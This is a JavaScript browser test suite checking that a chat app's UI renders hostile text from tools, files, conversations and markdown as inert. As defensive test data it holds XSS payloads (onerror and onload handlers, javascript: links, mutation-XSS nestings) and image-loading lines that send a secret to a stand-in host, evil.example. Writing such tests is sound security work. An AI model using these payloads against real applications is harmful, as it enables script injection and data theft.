// Tries of the cases in which text from outside must stay text.
import assert from 'node:assert/strict';
import { clean, startHostile, value } from './ui-cases.js';
import { has } from './rig.js';

/** What a case is tried with, by its number. @type {Record<string, (stage: import('./rig.js').Stage, one: any) => Promise<void>>} */
export const texts = {
  async U001(stage) {
    await startHostile(stage);
    const me = await stage.page({ path: 'settings/tools' });
    await me.page.locator('.tool-name').getByText(value).first().waitFor();
    await me.go('settings/mcp');
    await me.page.locator('.tool-name').getByText(value).first().waitFor();
    await clean(me);
    await me.go('chat');
    const { tools } = await stage.companion.api('GET', '/api/tools');
    const tool = tools.find((/** @type {any} */ one) => one.own_name === value);
    assert.match(tool.name, /^[\w-]{1,64}$/);
    await me.say(`/${tool.name} {}`);
    await me.question(tool.name);
    await clean(me);
  },
  async U002(stage) {
    await startHostile(stage);
    const me = await stage.page({ path: 'settings/tools' });
    await me.page.getByText(`description ${value}`).first().waitFor();
    await me.page.getByText(`title ${value}`).first().waitFor();
    await me.button(/Run mcp_hostile_plain|Run plain/, false).first().click();
    await me.page.locator('.run-panel').getByText(`description ${value}`).waitFor();
    await clean(me);
    await me.go('chat');
    await me.composer.fill('/mcp_hostile');
    await me.page.locator('.suggest').getByText(`description ${value}`).first().waitFor();
    await clean(me);
  },
  async U005(stage) {
    await startHostile(stage);
    const me = await stage.page({ path: 'settings/tools' });
    await me.button(/Run mcp_hostile_plain|Run plain/, false).first().click();
    const panel = me.page.locator('.run-panel');
    await panel.locator('option', { hasText: `enum ${value}` }).waitFor({ state: 'attached' });
    await panel.getByText(`label ${value}`).first().waitFor();
    await panel.locator('select').selectOption({ label: `enum ${value}` });
    await clean(me);
    await panel.getByRole('button', { name: 'Run', exact: true }).click();
    const question = await me.question(`enum ${value}`);
    await clean(me);
    await me.answer(question, 'Allow once');
    await me.page.locator('.run-result').getByText(`result ${value}`).waitFor();
    await clean(me);
  },
  async U006(stage) {
    const me = await stage.page({ path: 'settings/mcp' });
    await me.page.getByRole('heading', { name: `Hostile ${value}` }).waitFor();
    await me.page.getByText(`described ${value}`).waitFor();
    await me.page.getByText(`option ${value}`).waitFor();
    await me.page.locator('option', { hasText: value }).waitFor({ state: 'attached' });
    await clean(me);
    await me.button(`Start Hostile ${value}`).click();
    await me.button(`Stop Hostile ${value}`).waitFor();
    await me.button(`Log of Hostile ${value}`).click();
    await me.page.getByText(`log ${value}`).waitFor();
    await me.page.locator('.svc', { hasText: 'described' }).locator('summary').click();
    await me.page.getByText(`server ${value}`).first().waitFor();
    await clean(me);
  },
  async U008(stage) {
    await startHostile(stage);
    const me = await stage.page();
    await stage.companion.api('PUT', '/api/permissions', { ...(await stage.companion.api('GET', '/api/permissions')), policy: 'allow_all' });
    await me.say('/mcp_hostile_fails {}');
    const fails = await me.finished(`Hostile ${value} · fails`);
    await fails.getByRole('button').first().click();
    await has(fails, /error <img src=x/);
    await me.idle();
    await me.say('/mcp_hostile_breaks {}');
    const breaks = await me.finished(`Hostile ${value} · breaks`);
    await has(breaks, /protocol <img src=x/);
    await me.idle();
    await me.say(`/read_file path="${value}"`);
    await me.finished('read_file');
    await me.idle();
    await me.say(`/${'x'.repeat(10)} path="${value}"`);
    await me.idle();
    await clean(me);
  },
  async U009(stage) {
    const name = '<img src=x onerror=window.__pwned=1>';
    stage.companion.write(name, value);
    const me = await stage.page();
    await stage.companion.api('PUT', '/api/permissions', { ...(await stage.companion.api('GET', '/api/permissions')), directories: ['RW:./**'] });
    await me.say('/list_directory path=.');
    const card = await me.finished('list_directory');
    await card.getByRole('button').first().click();
    await card.locator('td').getByText(name, { exact: true }).waitFor();
    await me.idle();
    await me.say('/search_files query=svg');
    const found = await me.finished('search_files');
    await found.getByRole('button').first().click();
    await has(found, /<svg\/onload/);
    await me.idle();
    await me.say(`/edit_file path="${name}" mode=append content="${value}"`);
    await clean(me);
  },
  async U011(stage) {
    const me = await stage.page({ path: await stage.companion.conversation(`title ${value}`, [
      { role: 'user', data: { text: `asked ${value}` } },
      { role: 'assistant', data: { text: `answered ${value} and **bold**`, reasoning: `thought ${value}`, model: value, error: { message: `failed ${value}` }, calls: [{ id: 'a', call_id: 'c1', tool: value, arguments: { [value]: value } }] } },
      { role: 'tool', data: { call_id: 'c1', tool: value, status: 'error', is_error: true, text: `came ${value}`, reason: `why ${value}` } },
    ]) });
    await me.page.locator('strong', { hasText: 'bold' }).waitFor();
    for (const text of ['asked', 'answered', 'failed', 'why']) await has(me.log, new RegExp(`${text} <img src=x`));
    await me.page.locator('.conv', { hasText: `title ${value}` }).waitFor();
    for (const button of await me.page.locator('.log .line, .log summary').all()) await button.click();
    assert.ok((await me.page.title()).includes('title <img'));
    await me.page.getByRole('searchbox').fill('answered');
    await me.page.locator('.snippet').first().waitFor();
    await clean(me);
  },
  async U013(stage) {
    await startHostile(stage);
    const me = await stage.page();
    await me.say('/mcp_hostile_linked {}');
    await me.answer(await me.question('mcp_hostile_linked'), 'Allow once');
    const card = await me.finished(`Hostile ${value} · linked`);
    await me.idle();
    await card.getByRole('button').first().click();
    await has(card, /text <img src=x/);
    for (const button of await card.getByRole('button', { name: /Open|Show/ }).all()) await button.click();
    assert.equal(await me.page.locator('a[href^="javascript"]').count(), 0);
    await clean(me);
  },
  async U014(stage) {
    await stage.companion.provider('evil', { kind: 'openai', base_url: 'http://127.0.0.1:9/v1', model: value });
    const me = await stage.page({ path: 'settings/providers' });
    await has(me.page.locator('.page'), /<img src=x onerror/);
    await me.button(/^Edit/, false).last().click();
    await clean(me);
    await me.go('chat');
    await me.button(/^Model:/, false).click();
    await me.page.getByRole('menuitemradio', { name: value }).click();
    await me.button(`Model: ${value}`).waitFor();
    await clean(me);
    await me.go('config/providers.evil.model');
    await me.page.locator('.page').waitFor();
    await me.go('settings/permissions');
    await me.page.getByRole('textbox', { name: /Rules/ }).fill(`R:./${value}/**\n${value}`);
    await me.button('Save rules').click();
    await has(me.page.locator('.rules-section'), /must start with R:/);
    await clean(me);
  },
  async U015(stage) {
    await startHostile(stage);
    const me = await stage.page();
    // Mirror shows all that a model would get: whatever is in there of the server's words is text.
    await me.say('hello');
    await me.sees(/"system"/);
    await me.idle();
    await clean(me);
  },
  ...Object.fromEntries(['U016', 'U019', 'U020', 'U021', 'U022'].map((id) => [id, async (/** @type {import('./rig.js').Stage} */ stage, /** @type {any} */ one) => {
    const { markdown } = one.input;
    const address = /\(([^]*)\)$/.exec(markdown)?.[1] ?? '';
    const texts = [markdown, markdown.toUpperCase().replace('WINDOW.__PWNED', 'window.__pwned'), `[x]: <${address.replaceAll('\n', '')}>\n\n[ref][x]`, `<${address}>`, `<a href="${address}">raw</a>`, `[ ![x](${address}) ](${address})`, `[x](\u0001${address})`, `[x](&#x6a;avascript:window.__pwned=1)`, '[good](https://example.org/page) <https://example.org/auto> [mail](mailto:a@example.org)'];
    const me = await stage.page({ path: await stage.companion.conversation('links', texts.map((text) => ({ role: 'assistant', data: { text } }))) });
    await me.page.locator('a', { hasText: 'good' }).waitFor();
    const links = await me.page.evaluate(() => [...document.querySelectorAll('.log .md a')].map((link) => ({ protocol: /** @type {HTMLAnchorElement} */ (link).protocol, target: link.getAttribute('target'), rel: link.getAttribute('rel') })));
    assert.deepEqual([...new Set(links.map(({ protocol }) => protocol))].sort(), ['https:', 'mailto:']);
    for (const link of links) assert.deepEqual([link.target, link.rel], ['_blank', 'noopener noreferrer']);
    await clean(me);
  }])),
  async U024(stage) {
    const texts = ['![x](https://evil.example/?d=SECRET)', '![x][r]\n\n[r]: https://evil.example/r.png', '<img src="https://evil.example/raw.png">', '![x](//evil.example/y.png)', '[![x](https://evil.example/z.png)](https://evil.example)', '![x](http://127.0.0.1:1/a.png)', '![x](/api/status)', '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>', '<link rel=stylesheet href=https://evil.example/s.css><svg><image href="https://evil.example/i.png"/></svg>', 'last'];
    const me = await stage.page({ path: await stage.companion.conversation('images', texts.map((text) => ({ role: 'assistant', data: { text } }))) });
    await me.page.locator('.md', { hasText: /^last/ }).waitFor();
    await me.page.waitForTimeout(500);
    assert.deepEqual(await me.page.evaluate(() => [...document.querySelectorAll('.log img, .log video, .log image')].map((one) => one.outerHTML)), []);
    assert.deepEqual(stage.watch.requests.filter((address) => /evil\.example|127\.0\.0\.1:1\/|\.png/.test(address)), []);
    await clean(me);
  },
  async U025(stage) {
    const texts = ['<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<form action="https://evil.example"><input name=a><button formaction="https://evil.example">b</button></form>', '<style>*{display:none}</style>', '<iframe src="https://evil.example"></iframe>', '<object data="x"></object><embed src="x">', '<p style="position:fixed;inset:0">cover</p>', '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1></style>', '<svg><style><a title="</style><img src=x onerror=window.__pwned=1>">', '<details open ontoggle=window.__pwned=1>x</details>', '<input autofocus onfocus=window.__pwned=1>', '<a id=app href=x>clobber</a><form id=question-1 name=choices></form>', '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">', '<template><script>window.__pwned=1</script></template>', '<xmp><img src=x onerror=window.__pwned=1></xmp>', 'last'];
    const me = await stage.page({ path: await stage.companion.conversation('raw', texts.map((text) => ({ role: 'assistant', data: { text } }))) });
    await me.page.locator('.md', { hasText: /^last/ }).waitFor();
    await clean(me);
    assert.deepEqual(await me.page.evaluate(() => [...document.querySelectorAll('.md :is(form, input:not([type=checkbox]), button:not(.btn), iframe, object, embed, details, noscript, template, math, xmp, [id], [name], [autofocus])')].map((one) => one.outerHTML.slice(0, 100))), []);
    assert.ok(await me.composer.isVisible(), 'nothing covers the page');
  },
  async U028(stage) {
    const huge = { line: 'a'.repeat(1 << 20), words: 'word **b** `c` [x](https://example.org) '.repeat(30_000), items: Array.from({ length: 10_000 }, (_, i) => `- item ${i}`).join('\n'), quotes: `${'> '.repeat(500)}deep`, nested: Array.from({ length: 500 }, (_, i) => `${' '.repeat(i * 2)}- x`).join('\n'), stars: '*'.repeat(50_000), brackets: '['.repeat(50_000), table: `|a|b|\n|-|-|\n${'|x|y|\n'.repeat(20_000)}`, code: `\`\`\`js\n${'const a = 1;\n'.repeat(60_000)}\`\`\`` };
    const me = await stage.page();
    await me.page.evaluate(() => {
      /** @type {any} */ (globalThis).tasks = [];
      new PerformanceObserver((list) => {
        for (const entry of list.getEntries()) /** @type {any} */ (globalThis).tasks.push(Math.round(entry.duration));
      }).observe({ entryTypes: ['longtask'] });
    });
    const slow = [];
    for (const [name, text] of Object.entries(huge)) {
      const where = await stage.companion.conversation(name, [{ role: 'assistant', data: { text } }]);
      // Other work on the machine makes single runs longer than the page makes them: the best of three is the page's own.
      let best = Infinity;
      for (let attempt = 0; attempt < 3 && best >= 200; attempt++) {
        if (attempt) await me.page.reload();
        if (attempt) await me.ready();
        await me.page.evaluate(() => {
          /** @type {any} */ (globalThis).tasks = [];
          new PerformanceObserver((list) => {
            for (const entry of list.getEntries()) /** @type {any} */ (globalThis).tasks.push(Math.round(entry.duration));
          }).observe({ entryTypes: ['longtask'] });
        });
        await me.go('chat');
        await me.page.locator('.empty').waitFor();
        await me.page.evaluate(() => {
          /** @type {any} */ (globalThis).tasks = [];
        });
        await me.go(where);
        await me.page.locator('.turn').first().waitFor();
        await me.page.waitForTimeout(400);
        best = Math.min(best, Math.max(0, ...(await me.page.evaluate(() => /** @type {any} */ (globalThis).tasks))));
      }
      if (best >= 200) slow.push(`${name} ${best} ms`);
      if (text.length > 100_000) await me.button('Show the rest').first().waitFor();
      console.log(`# ${name}: longest task ${best} ms`);
    }
    assert.deepEqual(slow, []);
  },
};
